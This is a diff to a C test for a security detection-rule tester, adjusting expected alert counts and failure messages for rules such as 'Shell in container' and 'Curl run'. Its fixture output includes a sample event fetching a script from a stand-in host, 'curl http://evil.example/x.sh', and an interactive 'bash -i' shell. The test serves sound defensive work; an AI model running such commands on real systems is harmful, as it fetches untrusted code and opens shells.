@@ -72,7 +72,7 @@ Test(ruletest, failures_are_diffed_and_the_exit_status_says_so)
 		 "  Curl run: 1\n");
 	write_at(top, "b-counts/test.yaml",
 		 "description: counts are off\nrules: [../../rules.yaml]\nevidence: [../../events.jsonl]\n"
-		 "expect:\n  Shell in container: 2\n");
+		 "expect:\n  Shell in container: 2\n  Curl run: [1, 3]\n");
 	write_at(top, "c-unknown/test.yaml",
 		 "rules: [../../rules.yaml]\nevidence: [../../events.jsonl]\nexpect:\n  No such thing: 1\n"
 		 "others: ignore\n");
@@ -103,8 +103,7 @@ Test(ruletest, failures_are_diffed_and_the_exit_status_says_so)
 		    "FAIL b-counts (counts are off)\n"
 		    "  - Shell in container: expected 2 alerts, got 1\n"
 		    "      first: shell bash in 0123456789ab (cmd=bash -i)\n"
-		    "  + Curl run: 1 unexpected alert\n"
-		    "      first: curl curl http://evil.example/x.sh\n"
+		    "  - Curl run: expected alerts on events [1,3], got [2]\n"
 		    "FAIL c-unknown\n"
 		    "  - No such thing: no such rule\n"
 		    "FAIL d-cannot\n"
